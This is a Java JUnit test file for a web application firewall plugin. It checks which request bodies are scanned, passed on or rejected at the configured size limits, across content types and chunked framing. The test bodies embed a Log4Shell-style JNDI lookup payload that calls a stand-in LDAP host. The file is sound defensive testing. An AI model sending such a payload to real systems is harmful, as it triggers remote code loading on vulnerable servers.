package gatehouse.plugin.waf;

import static org.assertj.core.api.Assertions.assertThat;

import gatehouse.gateway.Origin;
import gatehouse.gateway.RawHttp;
import gatehouse.gateway.TestGate;
import gatehouse.plugin.Plugins;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// What becomes of bodies at the firewall's limits: each cell of the table in `docs/parts/waf.md`,
/// for each kind of body, framed either way. The service gets all of a body or nothing.
class WafBodiesTest {
  private static final int LIMIT = 2_000;
  private static final int WITHOUT_FILES = 600;
  private static final String ATTACK = "${jndi:ldap://x.example/a}";

  /// A kind of body: what stands before and behind its content.
  ///
  /// @param isDocument whether the lower limit, of bodies without files, holds for it
  record Kind(String type, String before, String after, boolean isDocument) {
    /// A body of so many bytes with an attack, if any, at an offset of its content.
    String body(int length, int attackAt) {
      StringBuilder content = new StringBuilder();
      int room = length - before.length() - after.length();
      while (content.length() < room) {
        content.append(content.length() % 7 == 6 ? ' ' : 'x');
      }
      if (attackAt >= 0) {
        content.replace(attackAt, attackAt + ATTACK.length(), ATTACK);
      }
      return before + content + after;
    }
  }

  private static final List<Kind> KINDS =
      List.of(
          new Kind("application/x-www-form-urlencoded", "a=1&q=", "", true),
          new Kind("application/json", "{\"a\": 1, \"q\": \"", "\"}", true),
          new Kind("application/xml", "<a><b>1</b><q>", "</q></a>", true),
          new Kind(
              "multipart/form-data; boundary=b",
              "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n",
              "\r\n--b--\r\n",
              true),
          new Kind("text/plain", "Dear all, ", ".", false),
          new Kind("application/octet-stream", "\u0001", "\u0002", false),
          new Kind("", "Dear all, ", ".", false));

  /// @param without the limit of bodies without files
  record Cell(
      Kind kind,
      String config,
      int without,
      int length,
      int attackAt,
      int status,
      boolean chunked) {
    @Override
    public String toString() {
      return "%s, %s, %d bytes, attack at %d, %s: %d"
          .formatted(
              kind.type, config, length, attackAt, chunked ? "in chunks" : "at once", status);
    }
  }

  static Stream<Cell> cells() {
    String partial = "request_body_limit_action: partial";
    String reject = "request_body_limit_action: reject";
    String detect = "mode: detect";
    int much = 100_000;
    List<Cell> cells = new ArrayList<>();
    for (Kind kind : KINDS) {
      for (boolean chunked : new boolean[] {false, true}) {
        cells.add(new Cell(kind, reject, much, LIMIT, -1, 200, chunked));
        cells.add(new Cell(kind, partial, much, LIMIT, -1, 200, chunked));
        cells.add(new Cell(kind, reject, much, LIMIT, 1_000, 403, chunked));
        cells.add(new Cell(kind, partial, much, LIMIT, 1_000, 403, chunked));
        cells.add(new Cell(kind, reject, much, LIMIT + 1, -1, 413, chunked));
        cells.add(new Cell(kind, reject, much, 3 * LIMIT, 1_000, 413, chunked));
        cells.add(new Cell(kind, partial, much, LIMIT + 1, -1, 200, chunked));
        cells.add(new Cell(kind, partial, much, 3 * LIMIT, -1, 200, chunked));
        cells.add(new Cell(kind, partial, much, 3 * LIMIT, 1_000, 403, chunked));
        cells.add(new Cell(kind, partial, much, 3 * LIMIT, LIMIT + 100, 200, chunked));
        cells.add(new Cell(kind, detect, much, 3 * LIMIT, 1_000, 200, chunked));
        int low = kind.isDocument ? 400 : 200;
        cells.add(new Cell(kind, reject, WITHOUT_FILES, WITHOUT_FILES + 100, -1, low, chunked));
        cells.add(new Cell(kind, partial, WITHOUT_FILES, WITHOUT_FILES + 100, -1, low, chunked));
        cells.add(new Cell(kind, detect, WITHOUT_FILES, WITHOUT_FILES + 100, -1, 200, chunked));
      }
    }
    return cells.stream();
  }

  @ParameterizedTest
  @MethodSource("cells")
  void are_inspected_and_passed_on_as_the_table_says(Cell cell) throws Exception {
    String body = cell.kind.body(cell.length, cell.attackAt);
    assertThat(body).hasSize(cell.length);
    ask(cell, body);
  }

  /// Files do not count for the lower limit, and are not looked into.
  @ParameterizedTest
  @MethodSource("cells")
  void files_of_an_upload_count_for_the_upper_limit_alone(Cell cell) throws Exception {
    if (!cell.kind.equals(KINDS.get(3)) || cell.attackAt >= 0) {
      return;
    }
    Kind file =
        new Kind(
            cell.kind.type,
            cell.kind.before
                + "1\r\n"
                + "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f\"\r\n\r\n",
            cell.kind.after,
            false);
    int status = cell.status == 400 ? 200 : cell.status;
    ask(
        new Cell(file, cell.config, cell.without, cell.length, -1, status, cell.chunked),
        file.body(cell.length, -1));
  }

  private static void ask(Cell cell, String body) throws Exception {
    try (Origin origin = Origin.answering(Origin.OK);
        TestGate gate = gate(origin, cell);
        RawHttp client = gate.connect()) {
      assertThat(client.send(request(cell, body)).read().status()).isEqualTo(cell.status);
      if (cell.status == 200) {
        Origin.Seen seen = origin.next();
        boolean chunks = seen.header("transfer-encoding") != null;
        assertThat(chunks ? seen.data() : seen.body()).isEqualTo(body);
      }
      assertThat(origin.waiting()).isZero();
    }
  }

  private static TestGate gate(Origin origin, Cell cell) throws Exception {
    String config =
        "{request_body_limit: %d, %s, directives: SecRequestBodyNoFilesLimit %d}"
            .formatted(LIMIT, cell.config, cell.without);
    return TestGate.with(
        Plugins.CATALOGUE_CLASSES,
        origin.yaml() + "plugins:\n- {name: waf, config: " + config + "}\n");
  }

  private static String request(Cell cell, String body) {
    String head =
        "POST / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: test\r\n"
            + (cell.kind.type.isEmpty() ? "" : "Content-Type: " + cell.kind.type + "\r\n");
    if (!cell.chunked) {
      return head + "Content-Length: " + body.length() + "\r\n\r\n" + body;
    }
    StringBuilder chunks = new StringBuilder(head + "Transfer-Encoding: chunked\r\n\r\n");
    for (int at = 0; at < body.length(); at += 700) {
      String piece = body.substring(at, Math.min(at + 700, body.length()));
      chunks.append(Integer.toHexString(piece.length())).append("\r\n");
      chunks.append(piece).append("\r\n");
    }
    return chunks.append("0\r\n\r\n").toString();
  }
}
